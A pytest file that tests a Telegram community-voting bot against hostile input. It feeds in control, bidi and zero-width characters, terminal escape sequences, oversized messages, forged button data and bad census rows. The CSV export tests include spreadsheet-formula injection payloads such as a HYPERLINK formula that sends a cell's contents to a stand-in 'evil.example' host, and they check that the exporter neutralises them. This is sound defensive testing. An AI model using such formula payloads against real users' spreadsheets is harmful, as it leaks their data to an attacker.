"""Hostile input: invisible and control characters, spreadsheet formulas, conflicting flags, implausible
census rows and oversized messages, buttons and names.

The chat-facing attacks run on both runtimes (aiogram and python-telegram-bot) against the fake Bot API;
the rest run on the services and the real command line.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, select

from bot.deliberation.errors import InvalidInput
from bot.handlers.app import MAX_INPUT
from bot.handlers.features import wire
from bot.services import agenda, elevator, implementation, voting
from bot.services.census import CensusRejected, import_census, issue_codes, redeem_code
from bot.services.council import add_council_member
from bot.services.directory import Actor
from bot.services.export import export_data, to_csv
from bot.storage import Database
from bot.storage.models import Ballot, Community, ExclusiveUnit, LedgerEntry, Member, Proposal, Vote
from tests.e2e.conftest import GROUP, MODERATOR, OWNERS, World
from tests.e2e.conftest import world as world  # noqa: F401 - the fixture, on both runtimes

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "data" / "sample" / "census-sample.csv"
DIRTY_TITLE = "\x00\x07\x1b[31m加装\u202e电梯\u200b\x1b[0m"
INVISIBLE = ("\x00", "\x07", "\x1b", "\u202e", "\u200b")


async def _owner(w: World, room: str) -> int:
    user = OWNERS[room]
    await redeem_code(w.db, "telegram", str(user), w.codes[f"3-2-{room}"], f"Owner {room}")
    return user


async def _count(db: Database, model: type) -> int:
    async with db.uow() as uow:
        return int((await uow.session.execute(select(func.count()).select_from(model))).scalar_one())


# --- in the chat, on both runtimes ------------------------------------------------------------------


async def test_titles_and_bodies_lose_control_bidi_and_zero_width_characters(world: World) -> None:
    w = world
    owner = await _owner(w, "101")
    await w.say(MODERATOR, GROUP, "/bind 3-2")
    card = await w.say(owner, GROUP, f"/propose {DIRTY_TITLE}\nfirst\x00 line\u202e\n\x1b]0;pwned\x07second line")
    assert "#1 加装电梯" in card.text
    assert not any(char in card.text for char in INVISIBLE)
    async with w.db.uow() as uow:
        proposal = (await uow.session.execute(select(Proposal))).scalar_one()
        assert (proposal.title, proposal.body) == ("加装电梯", "first line\nsecond line")
        submitted = json.loads((await uow.session.execute(
            select(LedgerEntry.payload).where(LedgerEntry.event == "proposal_submitted"))).scalar_one())
    assert (submitted["title"], submitted["body"]) == ("加装电梯", "first line\nsecond line")
    for invisible in ("\u200b\u200b\u202e", "\x00\x07", "\u2066\u2069\ufeff", "\x1b[31m\x1b[0m"):
        refused = await w.personal(owner, GROUP, f"/propose {invisible}")
        assert refused.text == "The title must not be empty or made only of invisible characters."
    assert await _count(w.db, Proposal) == 1


async def test_reasons_authorities_and_display_names_are_shown_clean(world: World) -> None:
    w = world
    owner = await _owner(w, "101")
    await w.say(MODERATOR, GROUP, "/bind 3-2")
    await w.say(MODERATOR, GROUP, "/lang en")
    await w.say(owner, GROUP, "/propose New bench by the gate")
    declined = await w.say(MODERATOR, GROUP, "/decline 1 \x1b[2J\u202eduplicate of the garden plan\x07")
    assert declined.text == "#1 New bench by the gate was declined. Reason: duplicate of the garden plan"
    async with w.db.uow() as uow:
        assert (await uow.session.get(Proposal, 1)).reason == "duplicate of the garden plan"  # type: ignore[union-attr]
    blank = await w.personal(MODERATOR, GROUP, "/decline 1 \u200b\u202e")
    assert blank.text == "Please give a public reason."

    # A name of 300 characters wrapped in an override and escapes (Telegram's own limit is 64).
    stranger = 7777
    w.fake.add_user(stranger, "\u202e" + "李" * 300 + "\x1b[31m\x00", language_code="en")
    w.fake.add_private_chat(stranger)
    question = await w.say(stranger, stranger, "/register 3-2-502")
    assert "sent" in (await w.press(stranger, stranger, question, w.button(question, "v1:rg:"))).lower()
    # The council's bundled notice comes first, so that /pending's answer is the next message.
    await w.fake.wait_for_message(MODERATOR, lambda m: m.from_bot and "wait for the council" in (m.text or ""), 10.0)
    pending = await w.say(MODERATOR, MODERATOR, "/pending")
    assert pending.text == f"Request #2: {'李' * 200} asks to be owner of 3-2-502."
    async with w.db.uow() as uow:
        name = (await uow.session.execute(
            select(Member.display_name).where(Member.external_id == str(stranger)))).scalar_one()
    assert name == "李" * 200


async def test_conflicting_or_repeated_vote_flags_are_refused(world: World) -> None:
    w = world
    owner = await _owner(w, "101")
    await w.say(MODERATOR, GROUP, "/bind 3-2")
    await w.say(owner, GROUP, "/propose New bench by the gate")
    async with w.db.uow() as uow:
        (await uow.session.get(Proposal, 1)).state = "agenda"  # type: ignore[union-attr]
    usage = ("Usage: /vote <id> <kind> [<days>d] [secret|open] (options on the next lines for choice, ranked, "
             "approval)")
    for flags in ("5d secret open", "5d open secret", "secret secret", "5d 9d", "open 5d open", "5d secret 5d",
                  "5d secret loud"):
        refused = await w.personal(MODERATOR, GROUP, f"/vote 1 art278 {flags}")
        assert refused.text == usage, flags
    assert await _count(w.db, Vote) == 0
    ballot = await w.say(MODERATOR, GROUP, "/vote 1 art278 secret 6d")
    assert "#1" in ballot.text
    async with w.db.uow() as uow:
        vote = (await uow.session.execute(select(Vote))).scalar_one()
    assert vote.secret is True and vote.closes_at - vote.opened_at == timedelta(days=6)


async def test_paper_authority_is_echoed_clean(world: World) -> None:
    w = world
    owner = await _owner(w, "101")
    await w.say(MODERATOR, GROUP, "/bind 3-2")
    await w.say(owner, GROUP, "/propose New bench by the gate")
    async with w.db.uow() as uow:
        (await uow.session.get(Proposal, 1)).state = "agenda"  # type: ignore[union-attr]
    await w.say(MODERATOR, GROUP, "/vote 1 art278 7d open")
    paper = await w.personal(MODERATOR, GROUP, "/paper 1 3-2-501 yes \u202esigned\x00 ballot\x1b[5m no. 3")
    assert paper.text == ("Paper ballot for 3-2-501 recorded: Yes (signed ballot no. 3). The owner's own ballot "
                          "would replace it.")
    invisible = await w.personal(MODERATOR, GROUP, "/paper 1 3-2-502 yes \u200b\u202e\x07")
    assert invisible.text.startswith("Say on what authority you enter this ballot")
    # Input that is only echoed, never stored, is shown clean too.
    unknown = await w.personal(MODERATOR, GROUP, "/paper 1 \u202e3-2-999\x1b[8m yes signed")
    assert unknown.text.startswith("There is no home 3-2-999 in the census.")
    day = await w.personal(MODERATOR, GROUP, "/digest weekly \u202efunday\x07 20:00")
    assert day.text == "Unknown day funday. Use mon, tue, wed, thu, fri, sat or sun."
    community = await w.personal(MODERATOR, GROUP, "/bind 3-2 \u202eNowhere\x00")
    assert community.text == "There is no community named Nowhere."


async def test_every_command_refuses_a_message_over_the_limit(world: World) -> None:
    """Telegram caps a message at 4096 characters; a forged update that is longer changes nothing."""
    w = world
    await _owner(w, "101")
    await w.say(MODERATOR, GROUP, "/bind 3-2")
    ledger_before = await _count(w.db, LedgerEntry)
    registry = wire().commands
    names = sorted([*registry.commands, *registry.aliases])  # every registered command, not a sample
    assert {"propose", "vote", "paper", "objection", "progress", "register", "start", "decline"} <= set(names)
    for name in names:
        spec = registry.get(name)
        assert spec is not None
        chat = GROUP if spec.where == "group" else MODERATOR
        mark = w.fake.last_message(MODERATOR)
        w.fake.send_text(MODERATOR, chat, f"/{name} 1 " + "\u5b57" * MAX_INPUT, unchecked=True)
        # A refusal is personal: in a group it is answered in private.
        reply = await w.fake.wait_for_message(MODERATOR, lambda m: m.from_bot, 10.0,
                                              after=mark.message_id if mark else 0)
        assert reply.text == "That message is too long (over 4096 characters). Please shorten it.", name
    # The same from a resident who is no moderator, and in a group: the length is checked first.
    mark = w.fake.last_message(OWNERS["101"])
    w.fake.send_text(OWNERS["101"], GROUP, "/propose " + "x" * (MAX_INPUT * 4), unchecked=True)
    reply = await w.fake.wait_for_message(OWNERS["101"], lambda m: m.from_bot, 10.0,
                                          after=mark.message_id if mark else 0)
    assert reply.text == "That message is too long (over 4096 characters). Please shorten it."
    # Not a command: the usual hint in private, no crash.
    chatter = await w.say(OWNERS["101"], OWNERS["101"], "x" * 3000)
    assert "/help" in chatter.text
    assert await _count(w.db, Proposal) == 0 and await _count(w.db, LedgerEntry) == ledger_before


async def test_forged_huge_button_payloads_are_refused(world: World) -> None:
    w = world
    owner = await _owner(w, "101")
    await w.say(MODERATOR, GROUP, "/bind 3-2")
    card = await w.say(owner, GROUP, "/propose New bench by the gate")
    for data in ("v1:b:" + "1" * 5000 + ":y", "v1:s:" + "9" * 5000, "v1:pg:" + "0" * 500, "x" * 20_000,
                 "v1:" + ":" * 3000, "v1:s:1" + "\x00" * 100):
        query = w.fake.press_button(OWNERS["102"], GROUP, card.message_id, data, forged=True)
        answer = await w.fake.wait_for_callback_answer(query, timeout=10.0)
        assert answer.text == "This button is no longer valid.", data[:20]
    assert await _count(w.db, Vote) == 0


# --- services and the command line --------------------------------------------------------------


MODERATOR_ACTOR = Actor("telegram", "9000", "Moderator")


async def test_every_stored_text_is_cleaned(db: Database, community: str) -> None:
    await add_council_member(db, community, "telegram", "9000")
    codes = {f"{c.building}-{c.unit}-{c.room}": c.code for c in await issue_codes(db, community)}
    await redeem_code(db, "telegram", "1", codes["3-2-101"], "\u202eOwner\x00 One\u200b")
    author = Actor("telegram", "1", "\u202eOwner\x00 One\u200b")
    async with db.uow() as uow:
        community_id = (await uow.session.execute(select(Community.id))).scalar_one()
        assert (await uow.session.execute(select(Member.display_name).where(Member.external_id == "1"))
                ).scalar_one() == "Owner One"
    made = await agenda.propose(db, community_id, author, "Choose\u200b a\x07 colour", "\x1b[1mred\x1b[0m or green",
                                scope="3-2", force=True)
    assert made.proposal is not None and made.proposal.id is not None
    assert (made.proposal.title, made.proposal.body) == ("Choose a colour", "red or green")
    pid = made.proposal.id
    async with db.uow() as uow:
        (await uow.session.get(Proposal, pid)).state = "agenda"  # type: ignore[union-attr]
    vote = await voting.open_vote(db, pid, MODERATOR_ACTOR, "choice", 7,
                                  options=["\u202e红", "绿\x00", "\u200b\u2066", "\x1b[31m蓝"])
    assert vote.options == ["红", "绿", "蓝"]  # the invisible line is no option at all
    cast = await voting.paper_ballot(db, vote.id or 0, MODERATOR_ACTOR, "3-2-501", [0], "\u202epaper\x00 no. 7")
    assert cast.changed
    async with db.uow() as uow:
        assert (await uow.session.execute(select(Ballot.authority))).scalars().all() == ["paper no. 7"]
        cast_entry = (await uow.session.execute(
            select(LedgerEntry.payload).where(LedgerEntry.event == "ballot_cast"))).scalar_one()
    assert json.loads(cast_entry)["authority"] == "paper no. 7"

    lift = await agenda.propose(db, community_id, author, "加装电梯", "", scope="3-2", category="elevator", force=True)
    assert lift.proposal is not None and lift.proposal.id is not None
    async with db.uow() as uow:
        (await uow.session.get(Proposal, lift.proposal.id)).state = "voting"  # type: ignore[union-attr]
    objection = await elevator.record_objection(db, lift.proposal.id, MODERATOR_ACTOR, "3-2-101", "light",
                                                "blocks\u202e light\x00\n\n\n\nto\x1b[0m 1F")
    assert objection.detail == "blocks light\n\nto 1F"
    await elevator.update_objection(db, objection.id or 0, MODERATOR_ACTOR, "mediating", "\u202etalks\x07")
    async with db.uow() as uow:
        (await uow.session.get(Proposal, lift.proposal.id)).state = "adopted"  # type: ignore[union-attr]
        note = json.loads((await uow.session.execute(
            select(LedgerEntry.payload).where(LedgerEntry.event == "objection_updated"))).scalar_one())["note"]
    assert note == "talks"
    progress = await implementation.record_progress(db, lift.proposal.id, MODERATOR_ACTOR,
                                                    "\x1b[31mcontract\u200b signed")
    assert progress.note == "contract signed"
    with pytest.raises(InvalidInput) as blank:
        await implementation.record_progress(db, lift.proposal.id, MODERATOR_ACTOR, "\u200b\x00")
    assert blank.value.params == {"field": "note"}


async def test_export_csv_cannot_start_a_formula(db: Database, community: str) -> None:
    codes = {f"{c.building}-{c.unit}-{c.room}": c.code for c in await issue_codes(db, community)}
    await redeem_code(db, "telegram", "1", codes["3-2-101"], "Owner")
    async with db.uow() as uow:
        community_id = (await uow.session.execute(select(Community.id))).scalar_one()
    titles = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-1+cmd", "@SUM(A1)", "普通的标题"]
    for title in titles:
        await agenda.propose(db, community_id, Actor("telegram", "1"), title, scope="3-2", force=True)
    rows = list(csv.reader(io.StringIO(to_csv(await export_data(db)))))
    assert [row[1] for row in rows[1:]] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"点我")', "'+1+1", "'-1+cmd", "'@SUM(A1)", "普通的标题",
    ]
    assert [row[5] for row in rows[1:]] == ["1"] * 5  # numbers stay numbers


def _yishi(cwd: Path, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
    environment = {k: v for k, v in os.environ.items() if not k.startswith("CENSUS_") and k != "DATABASE_URL"}
    environment.update(env)
    return subprocess.run([sys.executable, "-m", "bot", *args], cwd=cwd, env=environment, capture_output=True,
                          text=True, timeout=120)


def test_export_csv_from_the_command_line(tmp_path: Path, database_url: str) -> None:
    (tmp_path / ".env").write_text(f"DATABASE_URL={database_url}\n", encoding="utf-8")
    assert _yishi(tmp_path, "census", "import", str(SAMPLE), "--community", "幸福里").returncode == 0

    async def seed() -> None:
        db = Database(database_url)
        try:
            codes = {f"{c.building}-{c.unit}-{c.room}": c.code for c in await issue_codes(db, "幸福里")}
            await redeem_code(db, "telegram", "1", codes["3-2-101"], "Owner")
            async with db.uow() as uow:
                community_id = (await uow.session.execute(select(Community.id))).scalar_one()
            await agenda.propose(db, community_id, Actor("telegram", "1"), '=HYPERLINK("http://evil.example/?"&A1,"点我")',
                                 scope="3-2", force=True)
        finally:
            await db.dispose()

    import asyncio

    asyncio.run(seed())
    out = _yishi(tmp_path, "export", "--format", "csv")
    assert out.returncode == 0, out.stderr
    assert out.stdout.splitlines()[1].startswith('1,"\'=HYPERLINK(""http://evil.example/?""&A1,""点我"")",other,3-2,')
    codes = _yishi(tmp_path, "census", "codes", "--community", "幸福里", "--format", "csv", "--scope", "3-2")
    assert codes.returncode == 0 and codes.stdout.splitlines()[1].startswith("3,2,101,")


async def test_implausible_census_rows_reject_the_whole_file(db: Database) -> None:
    text = SAMPLE.read_text(encoding="utf-8")
    bad = text.replace("1,1,2,201,70.63", "1,1,2,201,9999999.99").replace("1,1,3,301,58.35", "1,1,-999,301,58.35")
    with pytest.raises(CensusRejected) as rejected:
        await import_census(db, "幸福里", bad)
    assert [(p.line, p.code) for p in rejected.value.problems] == [(4, "area_out_of_range"),
                                                                  (6, "floor_out_of_range")]
    assert await _count(db, ExclusiveUnit) == 0 and await _count(db, LedgerEntry) == 0


def test_census_bounds_from_settings_and_options(tmp_path: Path, database_url: str) -> None:
    (tmp_path / ".env").write_text(f"DATABASE_URL={database_url}\n", encoding="utf-8")
    bad = tmp_path / "bad.csv"
    bad.write_text(SAMPLE.read_text(encoding="utf-8").replace("1,1,2,201,70.63", "1,1,2,201,9999999.99")
                   .replace("1,1,3,301,58.35", "1,1,-999,301,58.35"), encoding="utf-8")
    refused = _yishi(tmp_path, "census", "import", str(bad), "--community", "幸福里")
    assert refused.returncode == 1
    assert "line 4: area_out_of_range: 9999999.99 m2 (at most 1000.00 m2)" in refused.stderr
    assert "line 6: floor_out_of_range: -999 (allowed -3 to 100)" in refused.stderr
    assert "Ledger OK: 0 entries" in _yishi(tmp_path, "ledger", "verify").stdout
    # A setting tightens the bound: every home of the sample is over 10 m².
    tight = _yishi(tmp_path, "census", "import", str(SAMPLE), "--community", "幸福里", CENSUS_MAX_AREA_M2="10")
    assert tight.returncode == 1 and tight.stderr.count("area_out_of_range") == 144
    swapped = _yishi(tmp_path, "census", "import", str(SAMPLE), "--community", "幸福里", "--min-floor", "5",
                     "--max-floor", "1")
    assert swapped.returncode == 1 and "--min-floor 5 is above --max-floor 1" in swapped.stderr
    setting = _yishi(tmp_path, "ledger", "verify", CENSUS_MIN_FLOOR="5", CENSUS_MAX_FLOOR="1")
    assert setting.returncode == 2 and "Bad setting CENSUS_MAX_FLOOR" in setting.stderr
    # Options widen them for one import.
    accepted = _yishi(tmp_path, "census", "import", str(bad), "--community", "幸福里", "--max-area", "10000000",
                      "--min-floor", "-999")
    assert accepted.returncode == 0, accepted.stderr
    assert "0 updated, 0 unchanged" in accepted.stdout
    assert "Ledger OK: 1 entries" in _yishi(tmp_path, "ledger", "verify").stdout
